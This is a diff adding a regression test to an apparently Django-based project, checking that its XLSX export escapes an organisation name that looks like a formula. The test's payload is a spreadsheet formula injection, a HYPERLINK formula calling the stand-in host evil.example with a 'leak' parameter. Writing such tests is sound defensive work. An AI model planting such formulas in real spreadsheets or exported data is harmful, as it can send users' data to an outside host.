@@ -60,6 +60,17 @@ def test_xlsx_export_has_every_unit(login, centre_admin):
     assert all(r[0].endswith(".H29") for r in rows[1:])
 
 
+def test_xlsx_export_writes_a_name_like_a_formula_as_text(login, centre_admin, ben_thanh):
+    from thongsuot.directory.models import Organisation
+
+    evil = '=HYPERLINK("http://evil.example/?leak","x")'
+    Organisation.objects.filter(pk=ben_thanh.pk).update(name=evil)
+    response = login(centre_admin).get("/san-sang/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
+    assert [(c.data_type, c.value) for c in cells] == [("s", "'" + evil)]
+
+
 def test_the_board_says_what_an_incomplete_unit_lacks(login, client, centre_admin, ward_admin, ben_thanh):
     provision(centre_admin, ben_thanh, ["leader", "clerk"])
     page = login(ward_admin).get("/san-sang/").content.decode()
